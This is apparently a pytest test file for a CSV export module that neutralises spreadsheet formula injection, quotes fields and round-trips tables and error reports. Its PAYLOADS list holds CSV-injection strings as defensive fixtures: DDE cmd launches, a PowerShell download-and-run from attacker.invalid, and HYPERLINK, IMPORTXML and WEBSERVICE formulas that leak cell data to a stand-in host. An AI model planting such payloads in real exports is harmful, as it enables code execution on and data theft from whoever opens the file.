"""export.py: CSV exports stream in chunks and neutralise formula-looking cells; database copy."""

import asyncio
import csv
import io
import sqlite3
import unicodedata

import pytest
from hypothesis import given
from hypothesis import strategies as st

from durable import Engine
from importer import copy_database, neutralise, rejects_csv, table_csv
from importer.export import report_header
from importer.sql import create_rejects_table, insert_rejects
from importer.validate import Reject

from .conftest import run_import


@pytest.mark.parametrize(
    ("cell", "expected"),
    [("=1+1", "'=1+1"), ("+A1", "'+A1"), ("-A1", "'-A1"), ("@SUM", "'@SUM"), ("\tx", "'\tx"), ("\rx", "'\rx"),
     (" =1+1", "' =1+1"), ("\u00a0=1+1", "'\u00a0=1+1"), ("\u200b=1+1", "'\u200b=1+1"), ("\ufeff@SUM", "'\ufeff@SUM"),
     ("\n\u2003-A1", "'\n\u2003-A1"), ("\x00=1", "'\x00=1"), ("\uff1d1+1", "'\uff1d1+1"), ("\uff0bA1", "'\uff0bA1"),
     ("\uff0dA1", "'\uff0dA1"), ("\uff20SUM", "'\uff20SUM"), ("\ufe66cmd", "'\ufe66cmd"),
     ("+44 20 7946 0000", "'+44 20 7946 0000"), ("-", "'-"), ("--1", "'--1"), ("-2.5 ", "'-2.5 "),
     ("-2.5", "-2.5"), ("-2", "-2"), ("+44", "+44"), ("-1e5", "-1e5"), ("-.5", "-.5"), ("+0.25E-3", "+0.25E-3"),
     ("plain", "plain"), ("a-b", "a-b"), ("x;=1+1", "x;=1+1"), ("", ""), (-2, -2), (-2.5, -2.5), (None, None)],
)  # fmt: skip
def test_cells_that_a_spreadsheet_would_run_are_neutralised_and_plain_numbers_kept(cell, expected):
    assert neutralise(cell) == expected


# CSV-injection payloads in the style of OWASP's list (DDE, HYPERLINK, IMPORTXML, WEBSERVICE, cmd), each also
# behind the blanks, format characters and fullwidth forms a spreadsheet skips or folds.
PAYLOADS = [
    "=cmd|' /C calc'!A0", "=cmd|'/C powershell IEX(wget attacker.invalid/shell.exe)'!A0",
    "+cmd|' /C notepad'!'E1'", "-2+3+cmd|' /C calc'!A0", "@SUM(1+9)*cmd|' /C calc'!A0",
    '=HYPERLINK("http://attacker.invalid?leak="&A1&A2, "Error: click here")',
    '=IMPORTXML(CONCAT("http://a.invalid/?v=", CONCATENATE(A2:E2)), "//a")',
    '=WEBSERVICE("http://attacker.invalid/"&A1)', "=DDE(\"cmd\";\"/C calc\";\"__DdeLink_60_870516294\")",
    "=1+1", "=-1", "+1+1", "-1+1", "@A1", "=A1", "\t=1+1", "\r=1+1", "=2+5+cmd|' /C calc'!A0",
    '=HYPERLINK("javascript:alert(1)")', "=IF(1=1,\"x\")", "=rundll32|'URL.dll,OpenURL calc.exe'!A",
]
BLANKS = ["", " ", "  ", "\u00a0", "\u200b", "\ufeff", "\u2060", "\u200b\u00a0 ", "\n", "\t", "\u3000"]
FOLDED = {"=": "\uff1d", "+": "\uff0b", "-": "\uff0d", "@": "\uff20"}


def hostile_cells() -> list[str]:
    cells = []
    for payload in PAYLOADS:
        for blank in BLANKS:
            cells.append(blank + payload)
            if payload[:1] in FOLDED:
                cells.append(blank + FOLDED[payload[:1]] + payload[1:])
    return cells


def inert(cell: str) -> bool:
    """Independent check of what a spreadsheet sees: a leading quote, or a first significant character (blanks,
    format and control characters skipped, NFKC) that starts no formula, or a number and nothing else."""
    if cell.startswith("'"):
        return True
    if cell[:1] in ("\t", "\r"):
        return False
    significant = unicodedata.normalize("NFKC", cell).lstrip("".join(chr(c) for c in range(33))
                                                          + "\u00a0\u200b\ufeff\u2060\u3000 ")
    if significant[:1] not in ("=", "+", "-", "@"):
        return True
    try:
        float(cell)
    except ValueError:
        return False
    return cell.strip() == cell and " " not in cell


def test_a_corpus_of_formula_payloads_comes_out_inert_from_a_table_export():
    cells = hostile_cells()
    assert len(cells) > 300
    conn = sqlite3.connect(":memory:")
    conn.execute('CREATE TABLE "t" ("cell" TEXT)')
    conn.executemany("INSERT INTO t VALUES (?)", [(c,) for c in cells])
    back = [row[0] for row in csv.reader(io.StringIO("".join(table_csv(conn, "t")), newline=""))][1:]
    assert len(back) == len(cells)
    assert [c for c in back if not inert(c)] == []
    assert all(b == "'" + c for b, c in zip(back, cells, strict=True))  # and nothing else changed


def test_every_field_is_quoted_so_no_locale_splits_a_cell():
    conn = sqlite3.connect(":memory:")
    conn.execute('CREATE TABLE "t" ("a;b" TEXT, "n" INTEGER, "r" REAL)')
    conn.execute("INSERT INTO t VALUES ('x;=1+1', -2, -2.5)")
    lines = "".join(table_csv(conn, "t")).splitlines()
    assert lines == ['"a;b","n","r"', '"x;=1+1","-2","-2.5"']
    in_a_semicolon_locale = next(csv.reader(io.StringIO(lines[1]), delimiter=";"))
    assert [f for f in in_a_semicolon_locale if f.startswith("=")] == []  # unquoted, `=1+1,...` became a cell


@given(
    st.lists(
        st.tuples(st.integers(-(2**63), 2**63 - 1), st.text(alphabet=st.characters(blacklist_categories=["Cs"]))),
        max_size=30,
    )
)
def test_a_table_round_trips_through_its_csv_export(rows):
    conn = sqlite3.connect(":memory:")
    conn.execute('CREATE TABLE "t" (n INTEGER, s TEXT)')
    conn.executemany("INSERT INTO t VALUES (?, ?)", rows)
    text = "".join(table_csv(conn, "t", chunk_rows=7))
    back = list(csv.reader(io.StringIO(text, newline="")))
    assert back[0] == ["n", "s"]
    assert [(int(n), s) for n, s in back[1:]] == [(n, str(neutralise(s))) for n, s in rows]


def test_the_error_report_lists_row_numbers_reasons_and_original_fields():
    conn = sqlite3.connect(":memory:")
    create_rejects_table(conn)
    insert_rejects(conn, "run1", [Reject(5, ["x", "=cmd"], ["Row 5: a", "Row 5: b"]), Reject(3, ["y"], ["Row 3: c"])])
    insert_rejects(conn, "run2", [Reject(9, ["z"], ["Row 9: d"])])
    rows = list(csv.reader(io.StringIO("".join(rejects_csv(conn, "run1", header=["id", "cmd"])), newline="")))
    assert rows == [
        ["row_number", "reasons", "id", "cmd"],
        ["3", "Row 3: c", "y"],
        ["5", "Row 5: a | Row 5: b", "x", "'=cmd"],
    ]


def test_the_whole_database_copies_to_a_file(tmp_path):
    conn = sqlite3.connect(":memory:")
    conn.execute("CREATE TABLE t (x)")
    conn.execute("INSERT INTO t VALUES (1)")
    conn.commit()
    assert copy_database(conn, tmp_path / "copy.sqlite") > 0
    assert sqlite3.connect(tmp_path / "copy.sqlite").execute("SELECT x FROM t").fetchall() == [(1,)]


def test_the_error_report_re_imports_cleanly_once_fixed(tmp_path):
    """Export the error report of a run with rejects, fix the bad values, import it back through the job
    (appending to the same table, the report's row_number and reasons columns skipped): every row lands, and
    negative numbers and text such as `-2.5` arrive as they were (a quoted `'-3` was rejected again)."""
    source = tmp_path / "ledger.csv"
    source.write_text("id,amount,note\n1,-1.5,ok\n2,n/a,-2.5\n3,-3,fine\n4,oops,+44\n5,2,last\n")
    columns = [{"source": 0, "name": "id", "type": "integer"}, {"source": 1, "name": "amount", "type": "real"},
               {"source": 2, "name": "note", "type": "text"}]
    first = run_import(tmp_path, source, {"table": "ledger", "columns": columns})
    assert first.output is not None and first.output.rows_rejected == 2
    with sqlite3.connect(first.db) as conn:
        (run_id,) = conn.execute("SELECT DISTINCT run_id FROM importer_rejects").fetchone()
        report = "".join(rejects_csv(conn, run_id, header=report_header(asyncio.run(plan_of(first.db, run_id)))))
    rows = list(csv.reader(io.StringIO(report, newline="")))
    assert rows[0] == ["row_number", "reasons", "id", "amount", "note"]
    assert [r[2:] for r in rows[1:]] == [["2", "n/a", "-2.5"], ["4", "oops", "+44"]]  # as they were, no quote
    fixes = {"n/a": "-3", "oops": "4.25"}
    fixed = tmp_path / "fixed.csv"
    with fixed.open("w", newline="") as out:
        csv.writer(out).writerows([rows[0], *[[*r[:3], fixes[r[3]], r[4]] for r in rows[1:]]])
    again = [{"source": 0, "name": "row_number", "skip": True}, {"source": 1, "name": "reasons", "skip": True},
             *[{**c, "source": c["source"] + 2} for c in columns]]
    second = run_import(tmp_path, fixed, {"table": "ledger", "if_exists": "append", "columns": again,
                                          "has_header": True, "delimiter": ","})
    assert second.output is not None and (second.output.rows_accepted, second.output.rows_rejected) == (2, 0)
    assert sorted(second.rows("ledger")) == [(1, -1.5, "ok"), (2, -3.0, "-2.5"), (3, -3.0, "fine"),
                                             (4, 4.25, "+44"), (5, 2.0, "last")]


async def plan_of(db, run_id):
    """The output of the run's `prepare` step, read through the engine (as the worker's export.errors does)."""
    engine = Engine(str(db))
    await engine.start()
    try:
        return next(s.output for s in await engine.get_steps(run_id) if s.name == "prepare")
    finally:
        await engine.stop()


def test_the_report_header_names_each_source_position():
    plan = {"width": 4, "options": {"columns": [{"source": 0, "name": "id"}, {"source": 2, "name": "note"}]}}
    assert report_header(plan) == ["id", "column_2", "note", "column_4"]
    assert report_header(None) is None and report_header({"width": "x"}) is None
